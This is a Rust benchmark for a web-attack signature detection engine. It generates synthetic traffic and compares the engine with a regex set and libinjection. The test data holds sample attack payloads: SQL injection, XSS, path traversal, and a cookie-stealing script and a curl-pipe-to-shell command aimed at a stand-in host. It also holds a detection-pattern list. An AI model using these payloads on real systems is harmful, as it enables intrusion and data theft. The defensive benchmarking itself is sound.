//! Measures the signature engine over a generated mix of requests; `cargo xtask bench detect` runs it.
//!
//! Prints one JSON object: throughput beside a floor and beside peers, latencies cold and warm, memory, time for large
//! bodies, JSON lines and events a second. All ratios come from one run on one core.
#![expect(clippy::print_stdout, reason = "the numbers are the point")]

use std::collections::BTreeMap;
use std::hint::black_box;
use std::time::{Duration, Instant};

use chrono::DateTime;
use regex::RegexSetBuilder;
use serde::Deserialize;
use serde_json::json;
use watchpost_detect::{Config, Engine, for_each_decoded, inspect_event, inspect_request};
use watchpost_model::event::{Category, Event, Http, Outcome};
use watchpost_model::ids::EventId;

const N_REQUESTS: usize = 3_100;
/// Simple patterns of the kind that a log filter has: the peer of the research table.
const PATTERNS: [&str; 25] = [
    r"union\s+(all\s+)?select",
    r"\bor\b\s+\d+\s*=\s*\d+",
    r"'\s*(or|and)\s+'",
    r"sleep\s*\(",
    r"benchmark\s*\(",
    r"information_schema",
    r"xp_cmdshell",
    r"drop\s+table",
    r"<script",
    r"javascript:",
    r"onerror\s*=",
    r"onload\s*=",
    r"<iframe",
    r"document\.cookie",
    r"alert\s*\(",
    r"\.\./",
    r"/etc/passwd",
    r"boot\.ini",
    r"cmd\.exe",
    r"/bin/(ba)?sh",
    r";\s*(cat|ls|id|wget|curl)\b",
    r"\$\(",
    r"\$\{jndi:",
    r"php://",
    r"sqlmap|nikto|nmap",
];

/// A small generator with a fixed seed: the mix is the same on every machine.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % n as u64).unwrap_or(0)
    }

    fn pick<'a>(&mut self, all: &[&'a str]) -> &'a str {
        all[self.below(all.len())]
    }
}

const WORDS: [&str; 32] = [
    "blue",
    "running",
    "shoes",
    "order",
    "by",
    "the",
    "select",
    "size",
    "and",
    "colour",
    "or",
    "user",
    "update",
    "list",
    "of",
    "items",
    "price",
    "from",
    "warehouse",
    "delivery",
    "tomorrow",
    "it's",
    "O'Brien",
    "café",
    "naïve",
    "50%",
    "a&b",
    "status",
    "open",
    "data",
    "report",
    "where",
];
const PATHS: [&str; 10] = [
    "/api/v1/items",
    "/",
    "/static/app.4f1c9a.js",
    "/images/logo.png",
    "/search",
    "/account/orders",
    "/health",
    "/login",
    "/blog/2026/03/on-call",
    "/docs/select-a-plan",
];
const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148",
    "okhttp/4.12.0",
];
const ATTACKS: [&str; 12] = [
    "1' or '1'='1",
    "-1 union all select null,concat(user,0x3a,pass) from accounts--",
    "1;waitfor delay '0:0:9'--",
    "<script>fetch('//x.example/'+document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "../../../../etc/shadow",
    "..%252f..%252fwindows/win.ini",
    "x;cat /etc/issue",
    "$(curl http://x.example/a|sh)",
    "%2527%2520and%2520sleep(9)--",
    "c'a't${IFS}/etc/hosts",
];

fn prose(random: &mut Random, n_bytes: usize) -> String {
    let mut text = String::with_capacity(n_bytes + 16);
    while text.len() < n_bytes {
        text.push_str(random.pick(&WORDS));
        text.push(' ');
    }
    text
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b' ' => "+".to_owned(),
            byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
            byte => format!("%{byte:02X}"),
        })
        .collect()
}

fn event(n: u32, http: Http) -> Event {
    let at = DateTime::UNIX_EPOCH + chrono::Duration::milliseconds(i64::from(n) * 20);
    let mut seed = [1_u8; 16];
    seed[8..12].copy_from_slice(&n.to_be_bytes());
    let id = EventId::derived(at.timestamp_millis(), seed);
    let mut event = Event::new(id, at, Category::ApiUsage, "request");
    event.source_ip = Some(format!("10.{}.{}.{}", n % 7, n % 251, n % 241));
    event.http = Some(http);
    event
}

/// 90 % ordinary requests, one in fifty with 10 KB of JSON, 10 % attacks; the mean is about 540 bytes.
fn mix() -> Vec<Event> {
    let mut random = Random(0x5741_5443_4850_4f53);
    (0..N_REQUESTS)
        .map(|n| {
            let mut headers: BTreeMap<String, String> =
                [("host".to_owned(), "shop.example".to_owned()), ("user-agent".to_owned(), random.pick(&AGENTS).to_owned())]
                    .into();
            if random.below(3) == 0 {
                headers.insert("referer".to_owned(), format!("https://shop.example/search?q={}", percent(&prose(&mut random, 12))));
            }
            if random.below(2) == 0 {
                headers.insert("cookie".to_owned(), format!("sid={:016x}; theme=dark; tz=Europe%2FBerlin", random.next()));
            }
            let is_attack = random.below(10) == 0;
            let value = if is_attack { random.pick(&ATTACKS).to_owned() } else { prose(&mut random, 20) };
            let (mut query, mut body, mut method) = (None, None, "GET");
            match random.below(50) {
                0 => {
                    let rows: Vec<serde_json::Value> = (0..40)
                        .map(|row| json!({"id": row, "name": prose(&mut random, 24), "note": prose(&mut random, 160), "at": "2026-03-02T10:00:00Z"}))
                        .collect();
                    headers.insert("content-type".to_owned(), "application/json".to_owned());
                    body = Some(json!({"rows": rows, "q": value}).to_string());
                    method = "POST";
                }
                1..=8 => {
                    headers.insert("content-type".to_owned(), "application/x-www-form-urlencoded".to_owned());
                    body = Some(format!("name={}&q={}&ok=1", percent(&prose(&mut random, 30)), percent(&value)));
                    method = "POST";
                }
                9..=14 => {
                    headers.insert("content-type".to_owned(), "application/json".to_owned());
                    body = Some(json!({"id": random.below(9_000), "q": value, "tags": ["a", "b"]}).to_string());
                    method = "POST";
                }
                _ => query = Some(format!("page={}&q={}&sort=price", random.below(90), percent(&value))),
            }
            let http = Http { method: method.to_owned(), path: random.pick(&PATHS).to_owned(), query, headers, body, ..Http::default() };
            event(u32::try_from(n).unwrap_or(0), http)
        })
        .collect()
}

fn n_bytes(event: &Event) -> usize {
    let Some(http) = &event.http else { return 0 };
    http.path.len()
        + http.query.as_ref().map_or(0, String::len)
        + http.body.as_ref().map_or(0, String::len)
        + http.headers.iter().map(|(name, value)| name.len() + value.len()).sum::<usize>()
}

/// Time that this thread has computed, so that a neighbour on the machine does not count; wall time where the system
/// does not say.
fn computed(since: Instant) -> Duration {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|text| text.split(' ').next()?.parse().ok())
        .map_or_else(|| since.elapsed(), Duration::from_nanos)
}

/// The computing time of the quickest of `n_rounds`.
fn best_of(n_rounds: u32, mut round: impl FnMut()) -> Duration {
    let since = Instant::now();
    (0..n_rounds)
        .map(|_| {
            let before = computed(since);
            round();
            computed(since).saturating_sub(before)
        })
        .min()
        .unwrap_or_default()
}

/// Requests a second.
fn per_second(events: &[Event], mut each: impl FnMut(&Event)) -> f64 {
    events.len() as f64 / best_of(5, || events.iter().for_each(&mut each)).as_secs_f64()
}

fn latencies_us(events: &[Event]) -> serde_json::Value {
    let mut all: Vec<u128> = events
        .iter()
        .map(|event| {
            let started = Instant::now();
            black_box(inspect_event(event));
            started.elapsed().as_nanos()
        })
        .collect();
    all.sort_unstable();
    let at = |share: f64| all[((all.len() - 1) as f64 * share) as usize] as f64 / 1_000.0;
    json!({"p50": at(0.5), "p90": at(0.9), "p99": at(0.99), "max": at(1.0)})
}

/// Resident memory in MB; 0 where the system does not say.
fn resident_mb() -> f64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmRSS:")?.trim().strip_suffix(" kB")?.trim().parse::<f64>().ok())
        .map_or(0.0, |kib| kib / 1_024.0)
}

#[derive(Deserialize)]
struct Line {
    id: u32,
    method: String,
    uri: String,
    headers: BTreeMap<String, String>,
    body: Option<String>,
}

/// JSON in, JSON out, without the pipe.
fn lines_per_second(events: &[Event]) -> f64 {
    let lines: Vec<String> = events
        .iter()
        .zip(0..)
        .filter_map(|(event, n)| {
            let http = event.http.as_ref()?;
            let uri = http.query.as_ref().map_or(http.path.clone(), |query| format!("{}?{query}", http.path));
            Some(json!({"id": n, "method": http.method, "uri": uri, "headers": http.headers, "body": http.body}).to_string())
        })
        .collect();
    let best = best_of(3, || {
        for line in &lines {
            let Ok(line) = serde_json::from_str::<Line>(line) else { continue };
            let verdict = inspect_request(&line.method, &line.uri, &line.headers, line.body.as_deref());
            let names: Vec<&str> = verdict.categories.iter().map(|family| family.as_str()).collect();
            black_box(
                json!({"id": line.id, "detected": verdict.is_detected(), "categories": names}).to_string(),
            );
        }
    });
    lines.len() as f64 / best.as_secs_f64()
}

/// Logins and requests over many sources through the whole engine.
fn events_per_second() -> f64 {
    let mut random = Random(7);
    let events: Vec<Event> = (0..100_000_u32)
        .map(|n| {
            let mut event = event(
                n,
                Http { method: "GET".to_owned(), path: "/".to_owned(), status: Some(200), ..Http::default() },
            );
            if n % 3 == 0 {
                event.category = Category::Authentication;
                event.kind = "login_failure".to_owned();
                event.outcome = Outcome::Failure;
                event.actor = Some(format!("user{}", random.below(5_000)));
                event.http = None;
            }
            event
        })
        .collect();
    let mut engine = Engine::new(Config::default());
    let taken = best_of(1, || {
        black_box(events.iter().map(|event| engine.observe(event, event.at).len()).sum::<usize>());
    });
    events.len() as f64 / taken.as_secs_f64()
}

/// Milliseconds for one body of each size: prose, and the worst of some hostile fillings.
fn large_bodies() -> serde_json::Value {
    let hostile = [
        "' or (",
        "<a <",
        "../",
        "{{",
        "select ",
        "/*",
        "%25",
        "&#x41;",
        "';--",
        "a=b&",
        "\\u0041",
        "[\"a\",",
        "$(",
        "((((((((",
        "x' ",
        "<!--",
        "on",
        "\"+\"",
        ";a=",
        "\n",
        "QUJD",
        "union select ",
        ";id",
        "; ls ",
        "|perl",
        "&date & ",
    ];
    let time = |body: &str| {
        let headers = [("content-type".to_owned(), "text/plain".to_owned())].into();
        // Wall time: the system counts computing time in steps that are longer than this takes.
        let mut best = f64::MAX;
        for _ in 0..5 {
            let started = Instant::now();
            black_box(inspect_request("POST", "/x", &headers, Some(body)));
            best = best.min(started.elapsed().as_secs_f64() * 1_000.0);
        }
        best
    };
    let mut random = Random(3);
    let sizes = [16_usize, 128, 1_024].map(|kib| {
        let mut worst = ("", 0.0);
        for piece in hostile {
            let taken = time(&piece.repeat(kib * 1_024 / piece.len()));
            if taken > worst.1 {
                worst = (piece, taken);
            }
        }
        let plain = prose(&mut random, kib * 1_024);
        let in_json = json!({"text": plain}).to_string();
        json!({"kib": kib, "prose_ms": time(&plain), "json_ms": time(&in_json), "worst_ms": worst.1, "worst": worst.0})
    });
    json!(sizes)
}

fn main() {
    let events = mix();
    let mean = events.iter().map(n_bytes).sum::<usize>() / events.len();
    // For a profiler: `detect_bench 50` looks at the mix fifty times and says nothing.
    if let Some(n_rounds) = std::env::args().nth(1).and_then(|rounds| rounds.parse::<u32>().ok()) {
        (0..n_rounds).for_each(|_| {
            events.iter().for_each(|event| {
                black_box(inspect_event(event));
            })
        });
        return;
    }
    let before = resident_mb();
    let started = Instant::now();
    black_box(inspect_request("GET", "/", &BTreeMap::new(), None));
    let ready_ms = started.elapsed().as_secs_f64() * 1_000.0;
    let cold = latencies_us(&events);
    let after_first = resident_mb();
    let warm = latencies_us(&events);
    let after_second = resident_mb();
    let n_found = events.iter().filter(|event| inspect_event(event).is_detected()).count();

    let floor = per_second(&events, |event| {
        for_each_decoded(event, &mut |text| {
            black_box(text);
        })
    });
    let engine = per_second(&events, |event| {
        black_box(inspect_event(event));
    });
    let set = RegexSetBuilder::new(PATTERNS).case_insensitive(true).build().expect("literal patterns");
    let regex_set = per_second(&events, |event| {
        for_each_decoded(event, &mut |text| {
            black_box(set.is_match(text));
        })
    });
    let libinjection = per_second(&events, |event| {
        for_each_decoded(event, &mut |text| {
            black_box(libinjectionrs::detect_sqli(text.as_bytes()).is_injection());
            black_box(libinjectionrs::detect_xss(text.as_bytes()).is_injection());
        });
    });
    println!(
        "{:#}",
        json!({
            "requests": events.len(), "mean_bytes": mean, "detected": n_found, "ready_ms": ready_ms,
            "per_second": {"floor": floor, "engine": engine, "regex_set_25": regex_set, "libinjection": libinjection},
            "latency_us": {"cold": cold, "warm": warm},
            "memory_mb": {"before": before, "after_first_pass": after_first, "after_second_pass": after_second},
            "large_bodies": large_bodies(),
            "json_lines_per_second": lines_per_second(&events),
            "events_per_second": events_per_second(),
        })
    );
}
